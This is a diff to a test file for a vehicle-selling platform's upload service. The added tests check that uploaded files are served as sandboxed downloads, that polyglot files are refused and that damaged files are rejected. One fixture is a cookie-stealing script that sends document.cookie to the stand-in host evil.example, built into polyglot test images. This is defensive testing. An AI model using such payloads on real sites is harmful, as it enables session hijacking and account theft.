@@ -4,6 +4,7 @@ import type { User } from '../contract/accounts';
 import { MAX_UPLOAD_BYTES, type DocumentsState, type PhotosState, type SharpnessResult, type UploadedDocument, type VehiclePhoto } from '../contract/documents';
 import { readMultipart } from '../platform/src/documents';
 import { newSeller, sessionData, signUp, uniqueEmail, valueCar } from './support/sellers';
+import { fixture, pdf as pdfFile } from './support/files';
 import { startWorkers, type Workers } from './support/workers';
 
 let workers: Workers;
@@ -21,7 +22,7 @@ const be16 = (n: number) => [n >> 8, n & 0xff];
 const PNG_1X1 = Uint8Array.from(atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='), (c) =>
   c.charCodeAt(0),
 );
-const PDF = bytes('%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n');
+const PDF = pdfFile('Settlement letter');
 
 /** Baseline JPEG headers (JFIF, SOF0 with the dimensions, SOS) around `scanBytes` of scan data. */
 function jpeg(width: number, height: number, scanBytes: number): Uint8Array {
@@ -123,7 +124,9 @@ describe('uploading a document', () => {
     const file = await get(seller, `/platform/vehicle/documents/${document.id}/file?enquiryId=${seller.enquiryId}`);
     expect(file.status).toBe(200);
     expect(file.headers.get('content-type')).toBe('image/png');
-    expect(file.headers.get('content-disposition')).toBe(`inline; filename="My logbook.png"; filename*=UTF-8''My%20logbook.png`);
+    // A download, never a page of ours: even a file a browser did render gets no origin and no scripts.
+    expect(file.headers.get('content-disposition')).toBe(`attachment; filename="My logbook.png"; filename*=UTF-8''My%20logbook.png`);
+    expect(file.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
     expect(file.headers.get('x-content-type-options')).toBe('nosniff');
     expect(new Uint8Array(await file.arrayBuffer())).toEqual(PNG_1X1);
   });
@@ -240,6 +243,61 @@ describe('reading an upload over the limit', () => {
   });
 });
 
+describe('files that are not what they start as', () => {
+  const JPEG = fixture('photo.jpg');
+  const LETTER = fixture('letter.pdf');
+  const HTML = '<html><body><script>document.location="//evil.example/?"+document.cookie</script></body></html>';
+  const DAMAGED = { code: 'invalid_file', message: 'That file is damaged or incomplete. Save it again, or take a new photo, and upload that.' };
+  const HIDDEN = {
+    code: 'invalid_file',
+    message: 'That file contains something besides the photo or document, so we cannot accept it. Take a new photo, or save the document again as a PDF, and upload that.',
+  };
+
+  it('refuses polyglots (a JPEG that is also a page or a PDF, a PDF with a zip after it) and stores nothing', async () => {
+    const seller = await signedUpSeller();
+    const polyglots = [
+      { bytes: bytes(JPEG, HTML), name: 'licence.jpg', type: 'image/jpeg' },
+      // A comment segment right after SOI: a PDF reader finds this header in the first kilobyte.
+      { bytes: bytes(JPEG.subarray(0, 2), [0xff, 0xfe, 0, 30], '%PDF-1.4 1 0 obj <<>> endobj', JPEG.subarray(2)), name: 'licence.jpg', type: 'image/jpeg' },
+      { bytes: bytes(LETTER, 'PK\x03\x04', new Uint8Array(40), 'PK\x05\x06', new Uint8Array(18)), name: 'letter.pdf', type: 'application/pdf' },
+      { bytes: bytes(PNG_1X1, HTML), name: 'logbook.png', type: 'image/png' },
+    ];
+    for (const file of polyglots) {
+      const response = await upload(seller, 'v5c', file);
+      expect(response.status, file.name).toBe(400);
+      expect(await response.json()).toEqual(HIDDEN);
+    }
+    const photo = await postForm(seller, '/platform/premium/photos', formOf({ enquiryId: seller.enquiryId, slot: 'boot' }, polyglots[0]!));
+    expect(await photo.json()).toEqual(HIDDEN);
+    expect((await (await bucket()).list({ prefix: `documents/${seller.enquiryId}/` })).objects).toEqual([]);
+    expect((await (await bucket()).list({ prefix: `photos/${seller.enquiryId}/` })).objects).toEqual([]);
+  });
+
+  it('refuses truncated files as damaged, for upload and for the sharpness check', async () => {
+    const seller = await signedUpSeller();
+    for (const file of [
+      { bytes: JPEG.subarray(0, JPEG.length - 200), name: 'cut.jpg', type: 'image/jpeg' },
+      { bytes: LETTER.subarray(0, LETTER.length - 100), name: 'cut.pdf', type: 'application/pdf' },
+      { bytes: PNG_1X1.subarray(0, PNG_1X1.length - 12), name: 'cut.png', type: 'image/png' },
+    ]) {
+      const response = await upload(seller, 'v5c', file);
+      expect(await response.json(), file.name).toEqual(DAMAGED);
+    }
+    const sharpness = await postForm(seller, '/platform/vehicle/documents/checkSharpness', formOf({}, { bytes: JPEG.subarray(0, 600), name: 'cut.jpg', type: 'image/jpeg' }));
+    expect(sharpness.status).toBe(400);
+    expect(await sharpness.json()).toEqual(DAMAGED);
+  });
+
+  it("keeps a phone's photo but stores it without what was appended after the image", async () => {
+    const seller = await signedUpSeller();
+    const motionPhoto = bytes(JPEG, new Uint8Array([0, 0, 0, 16]), 'ftypmp42', new Uint8Array(4), new Uint8Array(300).fill(9));
+    const document = await uploaded(seller, 'driving-licence', { bytes: motionPhoto, name: 'PXL_1.MP.jpg', type: 'image/jpeg' });
+    expect(document).toMatchObject({ contentType: 'image/jpeg', size: JPEG.length });
+    const file = await get(seller, `/platform/vehicle/documents/${document.id}/file?enquiryId=${seller.enquiryId}`);
+    expect(new Uint8Array(await file.arrayBuffer())).toEqual(JPEG);
+  });
+});
+
 describe('sending the documents for checking', () => {
   it('refuses with the missing kinds, then marks every document submitted once the required ones are there', async () => {
     const seller = await signedUpSeller();
@@ -336,6 +394,9 @@ describe('guided photos', () => {
 
     const file = await get(seller, `/platform/premium/photos/front-left/file?enquiryId=${seller.enquiryId}`);
     expect(file.headers.get('content-type')).toBe('image/jpeg');
+    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="front-left\.jpg"/);
+    expect(file.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
+    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
     expect(new Uint8Array(await file.arrayBuffer())).toEqual(SHARP_JPEG);
     expect((await get(seller, `/platform/premium/photos/boot/file?enquiryId=${seller.enquiryId}`)).status).toBe(404);
   });
